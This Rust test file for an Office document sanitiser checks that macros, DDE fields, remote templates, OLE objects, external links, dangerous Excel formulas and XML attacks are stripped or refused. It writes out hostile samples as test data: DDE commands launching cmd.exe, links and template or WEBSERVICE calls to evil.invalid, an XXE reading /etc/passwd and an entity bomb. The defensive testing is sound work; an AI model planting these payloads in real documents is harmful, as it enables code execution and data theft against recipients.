//! Threat rows 1 to 5, 8, 10, 15, 16 and 20 in Office Open XML.

use super::build::{Office, png, zip};
use super::nasty::{Case, check, loses, refused};

const MS: &str = "http://schemas.microsoft.com/office/2006/relationships";

fn field(instruction: &str) -> String {
    let runs: String = instruction
        .split('~')
        .map(|text| format!("<w:r><w:instrText xml:space=\"preserve\">{text}</w:instrText></w:r>"))
        .collect();
    format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>結果の文字</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    )
}

fn blip(attribute: &str) -> String {
    format!(
        "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:blipFill><a:blip {attribute}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
}

fn object(kind: &str) -> String {
    format!(
        "<w:p><w:r><w:object><v:shape id=\"s\" style=\"width:9pt\"><v:imagedata r:id=\"rIdPic\"/></v:shape><o:OLEObject Type=\"{kind}\" ProgID=\"Package\" ShapeID=\"s\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdO\"/></w:object></w:r></w:p>"
    )
}

fn with_picture(office: Office) -> Office {
    office.internal("rIdPic", "image", "media/i.png").part("word/media/i.png", "x", png())
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn macros() -> Vec<Case> {
    let vba = |office: Office, kind: &str, path: &str| {
        office.main_type(kind).internal("rId9", &format!("{MS}/vbaProject"), "vbaProject.bin").part(
            path,
            "vnd.ms-office.vbaProject",
            b"VB_Name",
        )
    };
    let (word, excel, slides) = (Office::word(""), Office::excel("", "", ""), Office::slides("", ""));
    let gone = &["vbaProject", "VB_Name", "macroEnabled"];
    vec![
        loses(
            "a.docm",
            vba(word.clone(), "vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "a.dotm",
            vba(word.clone(), "vnd.ms-word.template.macroEnabledTemplate.main+xml", "word/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "renamed.docx",
            vba(word.clone(), "vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "hidden.docx",
            vba(
                word.clone(),
                "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "word/vbaProject.bin",
            )
            .bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "a.xlsm",
            vba(excel.clone(), "vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "a.xltm",
            vba(excel.clone(), "vnd.ms-excel.template.macroEnabled.main+xml", "xl/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "a.pptm",
            vba(slides.clone(), "vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "ppt/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "a.ppsm",
            vba(slides.clone(), "vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", "ppt/vbaProject.bin").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "unrelated.docx",
            word.clone().part("word/vbaProject.bin", "vnd.ms-office.vbaProject", b"VB_Name").bytes(),
            &["macro"],
            &[],
            gone,
        ),
        loses(
            "ribbon.docx",
            word.clone()
                .from("", "rId7", &format!("{MS}/ui/extensibility"), "customUI/customUI.xml", false)
                .part("customUI/customUI.xml", "xml", "<customUI onLoad=\"Run\"/>")
                .bytes(),
            &["custom_ui"],
            &[],
            &["customUI", "onLoad"],
        ),
        loses(
            "addin.docx",
            word.clone()
                .from(
                    "",
                    "rId7",
                    "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                    "word/webextensions/taskpanes.xml",
                    false,
                )
                .part("word/webextensions/taskpanes.xml", "xml", "<t/>")
                .bytes(),
            &["web_extension"],
            &[],
            &["taskpanes"],
        ),
        refused(
            "a.xlam",
            vba(excel.clone(), "vnd.ms-excel.addin.macroEnabled.main+xml", "xl/vbaProject.bin").bytes(),
            "blocked_type",
        ),
        refused(
            "a.ppam",
            vba(slides, "vnd.ms-powerpoint.addin.macroEnabled.main+xml", "ppt/vbaProject.bin").bytes(),
            "blocked_type",
        ),
        Case {
            ending: sanitize::Ending::Held,
            ..refused(
                "a.xlsb",
                excel.main_type("vnd.ms-excel.sheet.binary.macroEnabled.main").bytes(),
                "xlsb_not_supported",
            )
        },
    ]
}

/// All cases of this file, by threat row.
pub(crate) fn cases() -> Vec<(u8, Vec<Case>)> {
    vec![
        (1, macros()),
        (3, links()),
        (3, presentations()),
        (4, fields().into_iter().map(|(_, case)| case).collect()),
        (4, workbooks()),
        (5, embedded()),
        (16, xml_attacks()),
    ]
}

#[test]
fn macros_never_pass() {
    macros().iter().for_each(|case| drop(check(case)));
}

/// Fields that fetch or run, as runs and as one element, with their instruction.
fn fields() -> Vec<(&'static str, Case)> {
    let cases: &[(&'static str, &'static [&'static str])] = &[
        ("DDEAUTO c:\\\\cmd.exe \"/k calc\"", &["dde"]),
        ("D~DE~AUTO c:\\\\cmd.exe \"/k calc\"", &["dde"]),
        ("dde c:\\\\cmd.exe \"/k calc\"", &["dde"]),
        ("INCLUDEPICTURE \"http://a.invalid/cmd.exe\" \\d", &["field"]),
        ("INCLUDETEXT \"\\\\\\\\a.invalid\\\\cmd.exe\"", &["field"]),
        ("LINK Excel.Sheet.8 \"c:\\\\cmd.exe\"", &["field"]),
        ("MACROBUTTON cmd.exe", &["field"]),
        ("HYPERLINK \"file://a.invalid/cmd.exe\"", &["unsafe_link"]),
        ("HYPERLINK \"ms-excel:cmd.exe\"", &["unsafe_link"]),
    ];
    let both = cases.iter().flat_map(|(instruction, removed)| {
        let simple = format!(
            "<w:p><w:fldSimple w:instr=\"{}\"><w:r><w:t>結果の文字</w:t></w:r></w:fldSimple></w:p>",
            instruction.replace('~', "").replace('"', "&quot;")
        );
        let runs = Office::word(&field(instruction)).bytes();
        [
            (*instruction, loses("f.docx", runs, removed, &[], &["cmd.exe", "instrText"])),
            (*instruction, loses("s.docx", Office::word(&simple).bytes(), removed, &[], &["cmd.exe", "fldSimple"])),
        ]
    });
    both.collect()
}

#[test]
fn word_fields_that_fetch_become_their_text() {
    for (instruction, case) in fields() {
        assert!(check(&case).contains("結果の文字"), "{instruction}");
    }
    let nested = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    check(&loses("nested.docx", Office::word(nested).bytes(), &["field"], &[], &["zz"]));
}

#[test]
fn word_fields_that_compute_stay() {
    for instruction in [
        "PAGE",
        "TOC \\o \"1-3\" \\h \\z \\u",
        "SEQ 図 \\* ARABIC",
        "REF _Ref1 \\h",
        "EQ \\* jc2 \\o\\ad(\\s\\up 9(かな),漢字)",
        "DATE \\@ \"ggge年M月d日\"",
        "HYPERLINK \"https://a.invalid/x\"",
        "HYPERLINK \\l \"_Toc1\"",
    ] {
        let text = check(&loses("f.docx", Office::word(&field(instruction)).bytes(), &[], &[], &["zz"]));
        assert!(text.contains(instruction) && text.contains("結果の文字"), "{instruction}");
    }
}

fn links() -> Vec<Case> {
    let link = "<w:p><w:hyperlink r:id=\"rIdL\"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>";
    let to = |target: &str| Office::word(link).external("rIdL", "hyperlink", target).bytes();
    let word = || Office::word("<w:p/>");
    vec![
        loses("http.docx", to("https://www.invalid/a?b=1&c=2"), &[], &[], &["zz"]),
        loses("mail.docx", to("mailto:a@b.invalid"), &[], &[], &["zz"]),
        loses("file.docx", to("file:///c:/x.exe"), &["unsafe_link"], &[], &["x.exe"]),
        loses("unc.docx", to("\\\\evil.invalid\\share"), &["unsafe_link"], &[], &["evil"]),
        loses("script.docx", to("javascript:alert(1)"), &["unsafe_link"], &[], &["alert"]),
        loses("search.docx", to("search-ms:query=x&crumb=location:evil"), &["unsafe_link"], &[], &["evil"]),
        loses("template.docx", word().internal("rIdS", "settings", "settings.xml").part("word/settings.xml", "vnd.openxmlformats-officedocument.wordprocessingml.settings+xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>").from("word/settings.xml", "rId1", "attachedTemplate", "https://evil.invalid/t.dotm", true).bytes(), &["remote_template"], &[], &["evil", "attachedTemplate"]),
        loses("ole-link.docx", with_picture(Office::word(&object("Link"))).external("rIdO", "oleObject", "mhtml:https://evil.invalid/x.html!x-usc:https://evil.invalid/x.html").bytes(), &["external_link"], &[], &["evil", "OLEObject"]),
        loses("frame.docx", word().external("rIdF", "frame", "https://evil.invalid/f.html").bytes(), &["frame"], &[], &["evil"]),
        loses("sub.docx", Office::word("<w:subDoc r:id=\"rIdF\"/>").external("rIdF", "subDocument", "https://evil.invalid/f.docx").bytes(), &["external_link"], &[], &["evil", "subDoc"]),
        loses("remote-picture.docx", Office::word(&blip("r:link=\"rIdI\"")).external("rIdI", "image", "https://evil.invalid/p.png").bytes(), &["remote_image"], &[], &["evil", "r:link"]),
        loses("vml-picture.docx", Office::word("<w:p><w:r><w:pict><v:shape id=\"s\" style=\"background:url(http://evil.invalid)\" href=\"http://evil.invalid\"><v:imagedata r:id=\"rIdI\" r:href=\"rIdI\" src=\"http://evil.invalid\"/></v:shape></w:pict></w:r></w:p>").external("rIdI", "image", "\\\\evil.invalid\\p.png").bytes(), &["remote_image"], &[], &["evil"]),
    ]
}

#[test]
fn nothing_points_out_of_a_document_but_allowed_links() {
    links().iter().for_each(|case| drop(check(case)));
}

fn embedded() -> Vec<Case> {
    let docm = Office::word("")
        .main_type("vnd.ms-word.document.macroEnabled.main+xml")
        .internal("rId9", &format!("{MS}/vbaProject"), "vbaProject.bin")
        .part("word/vbaProject.bin", "x", b"VB_Name");
    let package = |bytes: Vec<u8>| {
        with_picture(Office::word(&object("Embed")))
            .internal("rIdO", "package", "embeddings/p.docm")
            .part("word/embeddings/p.docm", "x", bytes)
            .bytes()
    };
    vec![
        loses("ole.docx", with_picture(Office::word(&object("Embed"))).internal("rIdO", "oleObject", "embeddings/oleObject1.bin").part("word/embeddings/oleObject1.bin", "x", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1payload").bytes(), &[], &["ole_object"], &["OLEObject", "payload"]),
        loses("embedded-docm.docx", package(docm.bytes()), &["macro"], &[], &["VB_Name", "vbaProject"]),
        loses("embedded-exe.docx", package(b"MZ program".to_vec()), &[], &["ole_object"], &["program"]),
        loses("altchunk.docx", Office::word("<w:altChunk r:id=\"rIdA\"/>").internal("rIdA", "aFChunk", "afchunk.mht").part("word/afchunk.mht", "x", "MIME-Version: 1.0").bytes(), &["alt_chunk"], &[], &["altChunk", "MIME"]),
        loses("activex.docx", Office::word("<w:p><w:r><w:object><w:control r:id=\"rIdC\" w:name=\"evil\"/></w:object></w:r></w:p>").internal("rIdC", "control", "activeX/activeX1.xml").part("word/activeX/activeX1.xml", "x", "<ax:ocx/>").bytes(), &["activex"], &[], &["activeX", "evil", "control"]),
        loses("emf.docx", Office::word(&blip("r:embed=\"rIdI\"")).internal("rIdI", "image", "media/i.emf").part("word/media/i.emf", "x", [vec![1, 0, 0, 0], vec![0; 36], b" EMF".to_vec()].concat()).bytes(), &[], &["metafile"], &[".emf"]),
        loses("font.docx", Office::word("").internal("rIdF", "fontTable", "fontTable.xml").part("word/fontTable.xml", "x", "<w:fonts xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:font w:name=\"x\"><w:embedRegular r:id=\"rId1\"/></w:font></w:fonts>").from("word/fontTable.xml", "rId1", "font", "fonts/f.odttf", false).part("word/fonts/f.odttf", "x", "font").bytes(), &[], &["font"], &["odttf", "embedRegular"]),
    ]
}

#[test]
fn embedded_things_are_sanitised_or_replaced() {
    embedded().iter().for_each(|case| drop(check(case)));
}

fn formula(text: &str) -> String {
    format!("<row r=\"1\"><c r=\"A1\"><f>{text}</f><v>42</v></c></row>")
}

fn workbooks() -> Vec<Case> {
    let with = |text: &str| Office::excel(&formula(text), "", "").bytes();
    let macro_sheet = Office::excel(
        "",
        "",
        "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName><definedName name=\"範囲\">表1!$A$1</definedName></definedNames>",
    );
    vec![
        loses("dde.xlsx", with("cmd|'/c calc'!A0"), &["dde"], &[], &["calc"]),
        loses("webservice.xlsx", with("_xlfn.WEBSERVICE(&quot;http://evil.invalid&quot;)"), &["dangerous_formula"], &[], &["evil"]),
        loses("hyperlink.xlsx", with("HYPERLINK(&quot;file://evil&quot;)"), &["dangerous_formula"], &[], &["evil"]),
        loses("external.xlsx", Office::excel(&formula("[1]S!A1"), "", "<externalReferences><externalReference r:id=\"rIdE\"/></externalReferences>").internal("rIdE", "externalLink", "externalLinks/externalLink1.xml").part("xl/externalLinks/externalLink1.xml", "x", "<externalLink/>").bytes(), &["external_workbook"], &[], &["externalLink", "[1]"]),
        loses("shared.xlsx", Office::excel("<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"0\">CALL(1)</f><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>2</v></c></row>", "", "").bytes(), &["dangerous_formula"], &[], &["CALL", "shared"]),
        loses("cf.xlsx", Office::excel("", "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>", "").bytes(), &["dde"], &[], &["calc"]),
        loses("dv.xlsx", Office::excel("", "<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>[1]x!A1</formula1></dataValidation></dataValidations>", "").bytes(), &["external_workbook"], &[], &["[1]"]),
        loses("connections.xlsx", Office::excel("", "", "").internal("rIdC", "connections", "connections.xml").part("xl/connections.xml", "x", "<connections><connection odbc=\"evil\"/></connections>").bytes(), &["connection"], &[], &["evil"]),
        loses("query.xlsx", Office::excel("", "", "").from("xl/worksheets/sheet1.xml", "rId1", "queryTable", "../queryTables/q.xml", false).part("xl/queryTables/q.xml", "x", "<queryTable/>").bytes(), &["query_table"], &[], &["queryTable"]),
        loses("ole.xlsx", Office::excel("", "<oleObjects><oleObject progId=\"x\" r:id=\"rId1\"/></oleObjects>", "").from("xl/worksheets/sheet1.xml", "rId1", "oleObject", "../embeddings/o.bin", false).part("xl/embeddings/o.bin", "x", "payload").bytes(), &[], &["ole_object"], &["payload", "oleObject"]),
        loses("names.xlsx", macro_sheet.bytes(), &["xlm_macro"], &[], &["Auto_Open"]),
        loses("window.xlsx", Office::excel("", "", "<bookViews><workbookView visibility=\"veryHidden\"/></bookViews>").bytes(), &[], &[], &["visibility"]),
        loses("vml-link.xlsx", Office::excel("", "<legacyDrawing r:id=\"rId1\"/>", "").from("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/v.vml", false).part("xl/drawings/v.vml", "x", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><v:shape id=\"a\"><o:OLEObject Type=\"Link\" r:id=\"rId1\"/></v:shape></xml>").from("xl/drawings/v.vml", "rId1", "oleObject", "file://evil/x", true).bytes(), &["external_link"], &[], &["evil", "OLEObject"]),
        loses("xlm.xlsm", Office::excel("", "", "").main_type("vnd.ms-excel.sheet.macroEnabled.main+xml").bytes(), &[], &[], &["macroEnabled"]),
        loses("hidden.xlsx", Office::excel("<row r=\"1\" hidden=\"1\"><c r=\"A1\"><v>7</v></c></row>", "", "").bytes(), &[], &[], &["hidden"]),
    ]
}

#[test]
fn workbooks_keep_values_and_lose_what_fetches() {
    for case in workbooks() {
        let text = check(&case);
        assert!(!text.contains("<f>cmd"), "{}", case.name);
    }
    let text = check(&workbooks().remove(0));
    assert!(text.contains("<v>42</v>"), "the cached value stays: {text}");
}

#[test]
fn text_boxes_in_vml_are_read_as_excel_writes_them_and_their_text_is_said_to_be_lost() {
    let drawing = "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"><v:shape id=\"a\"><v:textbox><div style='text-align:left'>一行目<br>二行目</div></v:textbox></v:shape></xml>";
    let office = Office::excel("", "<legacyDrawing r:id=\"rId1\"/>", "")
        .from("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/v.vml", false)
        .part("xl/drawings/v.vml", "x", drawing);
    check(&loses("box.xlsx", office.bytes(), &[], &["unknown_element"], &["行目"]));
}

/// Excel names the picture that fills a note by `o:relid`.
#[test]
fn a_note_keeps_the_picture_that_fills_it() {
    let drawing = "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"a\"><v:fill o:relid=\"rId1\" type=\"frame\"/><x:ClientData ObjectType=\"Note\"><x:Row>1</x:Row></x:ClientData></v:shape></xml>";
    let office = Office::excel("", "<legacyDrawing r:id=\"rId1\"/>", "")
        .from("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/v.vml", false)
        .part("xl/drawings/v.vml", "x", drawing)
        .from("xl/drawings/v.vml", "rId1", "image", "../media/i.png", false)
        .part("xl/media/i.png", "image/png", crate::build::png());
    let text = check(&loses("note.xlsx", office.bytes(), &[], &[], &[]));
    assert!(text.contains("xl/media/image1.png") && text.contains("o:relid=\"rId1\""), "{text}");
}

#[test]
fn a_macro_sheet_becomes_a_sheet_that_says_so() {
    let office = Office::excel("", "", "").internal("rIdM", &format!("{MS}/xlMacrosheet"), "macrosheets/sheet1.xml").part("xl/macrosheets/sheet1.xml", "x", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><a>EXEC</a></xm:macrosheet>");
    let mut members = office.members();
    for member in &mut members {
        if member.name == b"xl/workbook.xml" {
            let xml = String::from_utf8(member.content.clone()).unwrap();
            member.content = xml
                .replace(
                    "</sheets>",
                    "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rIdM\"/></sheets>",
                )
                .into_bytes();
        }
    }
    let text = check(&loses("m.xlsm", zip(&members), &["xlm_macro"], &[], &["EXEC", "veryHidden", "macrosheet"]));
    assert!(text.contains("マクロシートは除去されました") && text.contains("Macro1"));
}

fn presentations() -> Vec<Case> {
    let click = |attributes: &str| {
        format!("<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"x\"><a:hlinkClick {attributes}/></p:cNvPr></p:nvSpPr></p:sp>")
    };
    let slide = "ppt/slides/slide1.xml";
    vec![
        loses("program.pptx", Office::slides("", &click("r:id=\"rId1\" action=\"ppaction://program\"")).from(slide, "rId1", "hyperlink", "file:///c:/cmd.exe", true).bytes(), &["launch_action", "unsafe_link"], &[], &["cmd.exe", "ppaction"]),
        loses("macro.pptx", Office::slides("", &click("r:id=\"\" action=\"ppaction://macro?name=Run\"")).bytes(), &["macro"], &[], &["ppaction"]),
        loses("next.pptx", Office::slides("", &click("r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"")).bytes(), &[], &[], &["zz"]),
        loses("hidden.pptx", Office::slides(" show=\"0\"", "").bytes(), &[], &[], &["show="]),
        loses("ole.pptx", Office::slides("", "<p:graphicFrame><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj r:id=\"rId1\" progId=\"Package\"><p:embed/><p:pic><p:blipFill><a:blip r:embed=\"rId2\"/></p:blipFill></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>").from(slide, "rId1", "oleObject", "../embeddings/o.bin", false).from(slide, "rId2", "image", "../media/i.png", false).part("ppt/embeddings/o.bin", "x", "payload").part("ppt/media/i.png", "x", png()).bytes(), &[], &["ole_object"], &["payload", "oleObj"]),
        loses("video.pptx", Office::slides("", "<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link=\"rId1\"/></p:nvPr></p:nvPicPr></p:pic>").from(slide, "rId1", "video", "http://evil.invalid/v.mp4", true).bytes(), &["external_link"], &[], &["evil", "videoFile"]),
    ]
}

#[test]
fn slides_do_nothing_on_a_click_but_move() {
    presentations().iter().for_each(|case| drop(check(case)));
}

fn xml_attacks() -> Vec<Case> {
    let settings = |xml: &str| {
        Office::word("").internal("rIdS", "settings", "settings.xml").part("word/settings.xml", "x", xml).bytes()
    };
    let bomb = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]><x>&b;</x>";
    vec![
        refused("bomb.docx", settings(bomb), "dtd_not_allowed"),
        refused("xxe.docx", settings("<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>"), "dtd_not_allowed"),
        refused(
            "deep.docx",
            Office::word(&format!("{}{}", "<w:p>".repeat(300), "</w:p>".repeat(300))).bytes(),
            "limit_nesting",
        ),
        refused(
            "wide.docx",
            Office::word(&format!("<w:p {}/>", (0..500).map(|n| format!("a{n}=\"\" ")).collect::<String>())).bytes(),
            "limit_attributes",
        ),
        refused("broken.docx", Office::word("<w:p>").bytes(), "bad_xml"),
        refused("control.docx", Office::word("<w:p><w:r><w:t>&#1;</w:t></w:r></w:p>").bytes(), "bad_xml"),
        refused("encoding.docx", settings("<?xml version=\"1.0\" encoding=\"UTF-7\"?><x/>"), "bad_xml"),
        refused("trailing.docx", [Office::word("").bytes(), b"%PDF-1.7".to_vec()].concat(), "broken_container"),
    ]
}

#[test]
fn xml_that_attacks_its_reader_is_refused() {
    xml_attacks().iter().for_each(|case| drop(check(case)));
}

#[test]
fn japanese_typesetting_stays() {
    let body = "<w:p><w:pPr><w:textDirection w:val=\"tbRl\"/></w:pPr><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val=\"distributeSpace\"/><w:hps w:val=\"10\"/></w:rubyPr><w:rt><w:r><w:t>せきもり</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>関守</w:t></w:r></w:rubyBase></w:ruby></w:r><w:r><w:rPr><w:eastAsianLayout w:id=\"1\" w:combine=\"1\"/><w:em w:val=\"dot\"/></w:rPr><w:t>①㈱髙﨑～∥</w:t></w:r></w:p><w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"1\"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2\"/><w:vMerge w:val=\"restart\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>";
    let text = check(&loses("j.docx", Office::word(body).bytes(), &[], &[], &["zz"]));
    for kept in [
        "<w:ruby>",
        "せきもり",
        "tbRl",
        "w:combine=\"1\"",
        "①㈱髙﨑～∥",
        "w:gridSpan",
        "w:vMerge w:val=\"restart\"",
        "w:em",
    ] {
        assert!(text.contains(kept), "{kept}");
    }
    let sheet = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>関守</t><rPh sb=\"0\" eb=\"2\"><t>セキモリ</t></rPh><phoneticPr fontId=\"1\"/></is></c></row>";
    let after = "<mergeCells count=\"1\"><mergeCell ref=\"A1:C1\"/></mergeCells><dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"B1\"><formula1>\"可,否\"</formula1></dataValidation></dataValidations><printOptions gridLines=\"1\"/><pageSetup paperSize=\"9\" orientation=\"landscape\"/>";
    let text = check(&loses("j.xlsx", Office::excel(sheet, after, "").bytes(), &[], &[], &["zz"]));
    for kept in ["セキモリ", "mergeCell ref=\"A1:C1\"", "可,否", "gridLines", "orientation=\"landscape\"", "表1"]
    {
        assert!(text.contains(kept), "{kept}");
    }
}
